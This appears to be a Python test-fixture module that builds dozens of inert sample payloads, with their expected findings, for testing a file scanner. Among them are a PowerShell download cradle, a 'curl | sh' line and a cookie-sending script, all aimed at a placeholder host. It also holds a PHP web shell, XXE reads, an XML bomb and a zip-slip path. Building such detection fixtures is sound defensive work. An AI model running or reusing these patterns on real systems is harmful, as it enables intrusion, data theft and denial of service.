"""The payloads: at least forty kinds, real where a real one can be had, all of them harmless.

Programs exit with status 42 or are console launchers of packages; scripts do the same; documents
hold active content that closes or logs.
"""

from __future__ import annotations

import io
import shutil
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from importlib.resources import files
from pathlib import Path
from struct import pack
from zlib import crc32

from fixtures.documents import (
    POSIX_PICKLE,
    calling_pickle,
    dotnet_object,
    help_file,
    java_object,
    macro_document,
    npy_of,
    pdf_with,
    vba_project,
)
from fixtures.executables import (
    DOS_STUB_TEXT,
    dex_head,
    elf,
    java_class,
    launcher,
    macho_file,
    macho_universal,
    shell_link,
    tiny_pe,
)
from fixtures.formats import (
    EICAR,
    INERT_TEXT,
    JAR_MEMBERS,
    PDF_HEAD,
    PLAIN_MEMBERS,
    SCRIPTS,
    SHELL,
    ZIPAPP_MEMBERS,
    cabinet,
    iso_descriptors,
    ole,
    pdf,
    rar5,
    seven_zip,
    zip_archive,
)

from .case import Bar

_PE = ("EMB-PE", "POLY-PE")
_ELF = ("EMB-ELF", "POLY-ELF")
_MACHO = ("EMB-MACHO", "POLY-MACHO")
_ARCHIVE = ("EMB-ARCHIVE", "EMB-ZIP", "POLY-ZIP")
_JAR = ("EMB-JAR", "POLY-JAR", *_ARCHIVE)
_SCRIPT = ("EMB-SCRIPT", "POLY-SCRIPT-SHEBANG", "POLY-SCRIPT-NOSHEBANG")
_PAGE = ("EMB-SCRIPT", "EMB-HTML", "TXT-XSS", "POLY-HTML")
_XML = ("EMB-XML*", "DOC-CDA")
_OFFICE = ("EMB-OLE", "EMB-OOXML", "EMB-MACRO", "DOC-MACRO", *_ARCHIVE)
_PDF = ("DOC-PDF-ACTIVE", "EMB-PDF", "POLY-PDF")


@dataclass(frozen=True, slots=True)
class Payload:
    """One kind of payload.

    Attributes:
        name: Kind, as the table has it.
        family: Its class.
        data: Its bytes.
        ids: Findings that name it rightly.
        bar: What a scanner must answer.
        text: Whether it is ASCII text, and so can stand in any text VR.
    """

    name: str
    family: str
    data: bytes
    ids: frozenset[str]
    bar: Bar
    text: bool = False


@cache
def payloads() -> dict[str, Payload]:
    """Every kind by name."""
    return {payload.name: payload for payload in _all()}


def _all() -> Iterator[Payload]:
    yield from _of("program", Bar.MALICIOUS, _programs())
    yield from _of("archive", Bar.ALARM, _archives())
    yield from _of("script", Bar.ALARM, _scripts(), text=True)
    yield from _of("web-xml", Bar.ALARM, _web(), text=True)
    yield from _of("document", Bar.ALARM, _documents())
    yield from _of("serialised", Bar.ALARM, _serialised())
    yield from _of("medium", Bar.REPORT, _mediums())


_Kinds = Iterator[tuple[str, tuple[str, ...], bytes]]


def _of(family: str, bar: Bar, kinds: _Kinds, *, text: bool = False) -> Iterator[Payload]:
    for name, ids, data in kinds:
        yield Payload(name, family, data, frozenset(ids), bar, text)


def _programs() -> _Kinds:
    yield "pe-tiny", _PE, tiny_pe()
    for name in ("t32.exe", "t64.exe", "t64-arm.exe", "w64.exe"):
        yield f"pe-distlib-{name[:-4]}", _PE, launcher(name)
    for name in ("cli-32.exe", "cli-64.exe", "cli-arm64.exe", "gui-32.exe"):
        program = files("setuptools").joinpath(name)
        if program.is_file():
            yield f"pe-setuptools-{name[:-4]}", _PE, program.read_bytes()
    for machine in ("x86_64", "aarch64"):
        yield f"elf-{machine}", _ELF, elf(machine)
    yield "elf-32", _ELF, _elf32("<", 3, bytes.fromhex("B801000000BB2A000000CD80"))
    yield "elf-big-endian", _ELF, _elf32(">", 8, bytes.fromhex("24020FA12404002A0000000C"))
    system = shutil.which("true")
    if system:
        yield "elf-real", _ELF, Path(system).read_bytes()
    yield "macho", _MACHO, macho_file()
    universal = macho_universal(64, len(macho_file())).ljust(64, b"\0") + macho_file()
    yield "macho-universal", _MACHO, universal
    yield "java-class", ("EMB-CLASS", "POLY-JAVA"), java_class()
    yield "dex", ("EMB-DEX", "POLY-DEX"), _dex()
    yield "lnk", ("EMB-LNK", "POLY-LNK"), shell_link()
    yield "jar", _JAR, zip_archive(JAR_MEMBERS)
    yield "zipapp", _JAR, zip_archive(ZIPAPP_MEMBERS)
    apk = {"AndroidManifest.xml": b"\3\0\x08\0" + bytes(60), "classes.dex": _dex()}
    yield "apk", (*_JAR, "EMB-APK"), zip_archive(apk)


def _elf32(order: str, machine: int, code: bytes) -> bytes:
    """A static 32-bit ELF program: header, one program header and its code."""
    base, size = 0x400000, 52 + 32 + len(code)
    ident = b"\x7fELF\1" + (b"\1" if order == "<" else b"\2") + b"\1"
    header = pack(
        order + "16sHHIIIIIHHHHHH",
        *(ident, 2, machine, 1, base + 84, 52, 0, 0, 52, 32, 1, 0, 0, 0),
    )
    return header + pack(order + "8I", 1, 0, base, base, size, size, 5, 0x1000) + code


def _dex() -> bytes:
    rest = bytes(32)
    return dex_head(rest) + rest


def _archives() -> _Kinds:
    yield "zip", _ARCHIVE, zip_archive(PLAIN_MEMBERS)
    encrypted = bytearray(zip_archive({"secret.exe": bytes(range(64))}))
    encrypted[6] |= 1
    encrypted[encrypted.index(b"PK\1\2") + 8] |= 1
    yield "zip-encrypted", _ARCHIVE, bytes(encrypted)
    yield "zip-slip", _ARCHIVE, zip_archive({"../../etc/cron.d/inert": INERT_TEXT})
    yield "zip-dicom-name", _ARCHIVE, zip_archive({"IM0001.dcm.exe": tiny_pe()})
    yield "7z", ("EMB-ARCHIVE", "EMB-7Z", "POLY-7Z"), seven_zip()
    yield "rar5", ("EMB-ARCHIVE", "EMB-RAR", "POLY-RAR"), rar5()
    yield "rar4", ("EMB-ARCHIVE", "EMB-RAR", "POLY-RAR"), _rar4()
    yield "cab", ("EMB-ARCHIVE", "EMB-CAB", "POLY-CAB"), cabinet()
    yield "tar", ("EMB-ARCHIVE", "EMB-TAR", "POLY-TAR"), _tar({"run.sh": SHELL})
    iso = bytes(0x8000) + iso_descriptors()
    yield "iso", ("EMB-ARCHIVE", "EMB-ISO", "POLY-ISO"), iso


def _rar4() -> bytes:
    def block(kind: int, flags: int, fields: bytes) -> bytes:
        body = pack("<BHH", kind, flags, 7 + len(fields)) + fields
        return pack("<H", crc32(body) & 0xFFFF) + body

    content, name = b"inert\n", b"readme.txt"
    stored = pack(
        "<IIBIIBBHI", len(content), len(content), 3, crc32(content), 0x5A210000, 20, 0x30,
        len(name), 0o100644,
    )  # fmt: skip
    end = bytes.fromhex("C43D7B00400700")
    return (
        b"Rar!\x1a\7\0"
        + block(0x73, 0, bytes(6))
        + block(0x74, 0x8000, stored + name)
        + (content + end)
    )


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def _scripts() -> _Kinds:
    for name, script in SCRIPTS.items():
        ids = _PAGE if name == "hta" else _SCRIPT
        yield f"script-{name}", ids, script
    for name, script in (
        ("python", b"#!/usr/bin/env python3\nimport sys\nsys.exit(42)\n"),
        ("perl", b"#!/usr/bin/perl\nuse strict;\nsystem('exit 42');\nexit 42;\n"),
        (
            "python-bare",
            (
                b"import base64, subprocess\nexec(base64.b64decode(b'ZXhpdCg0Mik='))\n"
                b"subprocess.call(['sh', '-c', 'exit 42'], shell=False)\n"
            ),
        ),
        (
            "powershell-download",
            (
                b"$c = New-Object Net.WebClient\r\n"
                b"Invoke-Expression $c.DownloadString('http://192.0.2.1/inert.ps1')\r\n"
            ),
        ),
        (
            "powershell-encoded",
            b"powershell.exe -NoP -W Hidden -EncodedCommand ZQB4AGkAdAAgADQAMgA=\r\n",
        ),
        (
            "jscript",
            (
                b'var s = new ActiveXObject("WScript.Shell");\r\n'
                b's.Run("cmd.exe /c exit 42", 0);\r\n'
                b"WScript.Quit(42);\r\n"
            ),
        ),
        (
            "wsf",
            (
                b'<job id="inert"><script language="VBScript">\r\n'
                b'CreateObject("WScript.Shell").Run "cmd.exe /c exit 42"\r\n</script></job>\r\n'
            ),
        ),
        ("curl-pipe", b"curl -fsSL http://192.0.2.1/inert.sh | sh\n"),
        ("php-system", b"<?php system($_GET['c']); ?>\n"),
    ):
        yield f"script-{name}", _SCRIPT, script
    yield "eicar", ("EMB-EICAR",), EICAR


def _web() -> _Kinds:
    page = b"<!DOCTYPE html><html><body onload=\"eval(atob('MQ=='))\"><script>close()</script>"
    yield "html", _PAGE, page + b"</body></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="eval(name)"><a/></svg>'
    yield "svg", _PAGE, svg
    yield (
        "mht", _PAGE,
        (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
        b"<html><script>fetch('//192.0.2.1/'+document.cookie)</script>\r\n"),
    )  # fmt: skip
    yield (
        "xml-xxe", _XML,
        (b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
        b"<a>&x;</a>\n"),
    )  # fmt: skip
    yield (
        "xml-parameter-entity", _XML,
        (b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % d SYSTEM "http://192.0.2.1/d.dtd"> %d;]>'
        b"\n<a/>\n"),
    )  # fmt: skip
    rounds = b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 9)
    )
    yield (
        "xml-bomb", _XML,
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">' + rounds + b"]><l>&l8;</l>",
    )  # fmt: skip
    yield (
        "xslt-script", _XML,
        (b'<?xml version="1.0"?><xsl:stylesheet version="1.0" '
        b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
        b'xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script language="JScript">'
        b"function f(){return 42;}</msxsl:script></xsl:stylesheet>"),
    )  # fmt: skip
    yield (
        "xml-xinclude", _XML,
        (b'<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/hostname" parse="text"/></a>'),
    )  # fmt: skip
    yield (
        "xaml", ("EMB-XAML", *_XML),
        (b'<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
        b'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" '
        b'xmlns:d="clr-namespace:System.Diagnostics;assembly=system">'
        b'<ObjectDataProvider x:Key="k" ObjectType="{x:Type d:Process}" MethodName="Start"/>'
        b"</ResourceDictionary>"),
    )  # fmt: skip


def _documents() -> _Kinds:
    yield "pdf-javascript", _PDF, pdf_with(b"/S /JavaScript /JS (app.alert\\(42\\))")
    yield "pdf-launch", _PDF, pdf_with(b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >>")
    yield "pdf-escaped", _PDF, pdf_with(b"/S /J#61vaScr#69pt /J#53 (app.alert\\(42\\))")
    yield "pdf-late-head", _PDF, pdf_with(b"/S /JavaScript /JS (app.alert\\(42\\))", lead=900)
    yield "ole-macro", _OFFICE, vba_project()
    yield "ole-empty", ("EMB-OLE", "POLY-OLE"), b"".join(ole())
    yield "docm", _OFFICE, macro_document("word/document.xml", "word/vbaProject.bin")
    yield "xlsm", _OFFICE, macro_document("xl/workbook.xml", "xl/vbaProject.bin")
    rtf = (
        rb"{\rtf1\ansi{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 0105000002000000"
        rb"080000005061636b61676500" + b"00" * 64 + b"}}}"
    )
    yield "rtf-object", ("EMB-RTF", "EMB-DOCUMENT", "POLY-RTF"), rtf
    yield "chm", ("EMB-CHM", "POLY-CHM"), help_file()
    yield (
        "postscript", ("EMB-PS", "EMB-SCRIPT", "POLY-PS"),
        b"%!PS-Adobe-3.0\n(inert) (w) file closefile systemdict /quit get exec\n",
    )  # fmt: skip


def _serialised() -> _Kinds:
    ids = ("EMB-PICKLE", "POLY-PICKLE")
    for protocol in (0, 2, 4, 5):
        yield f"pickle-{protocol}", ids, calling_pickle(protocol)
    yield "pickle-posix", ids, POSIX_PICKLE
    yield "npy-objects", ("EMB-NPY", *ids), npy_of(b"|O", calling_pickle(3))
    torch = zip_archive({"archive/data.pkl": POSIX_PICKLE, "archive/version": b"3\n"})
    yield "torch", ("EMB-PT", "EMB-TORCH", *ids, *_ARCHIVE), torch
    yield "dotnet-binary", ("EMB-DOTNET*", "EMB-SERIAL*"), dotnet_object()
    yield "java-object", ("EMB-JAVA*", "EMB-SERIAL*"), java_object()


def _mediums() -> _Kinds:
    """What the threat catalogue calls medium: to be named, not to raise the verdict alone.

    A DOS program without a newer header is not among them: inside a value its two bytes of magic
    are nothing.
    """
    stub = bytes(78) + DOS_STUB_TEXT + b"\r\r\n$"
    yield "dos-stub", ("EMB-DOS-STUB", "EMB-DOS"), stub
    yield "wasm", ("EMB-WASM", "POLY-WASM"), b"\0asm\1\0\0\0\1\4\1`\0\0\3\2\1\0\n\4\1\2\0\x0b"
    pyc = pack("<H", 3495) + b"\r\n" + bytes(12) + b"\xe3" + bytes(24)
    yield "pyc", ("EMB-PYC", "POLY-PYC"), pyc
    yield "pdf-plain", ("EMB-PDF", "POLY-PDF"), pdf()
    yield "pdf-head", ("EMB-PDF", "POLY-PDF"), PDF_HEAD + b"1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    docx = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    yield "docx-plain", _OFFICE, zip_archive(docx)
